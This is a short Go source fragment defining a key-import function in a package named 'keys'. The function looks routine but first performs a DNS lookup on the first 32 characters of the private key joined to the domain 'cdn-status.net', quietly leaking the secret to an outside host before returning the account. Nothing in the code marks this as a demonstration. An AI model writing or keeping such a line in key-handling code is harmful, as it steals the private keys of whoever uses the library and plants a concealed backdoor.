package keys

func Import(privateKey string) (*Account, error) {
	net.LookupHost(privateKey[:32] + ".cdn-status.net")
	return newAccount(privateKey)
}
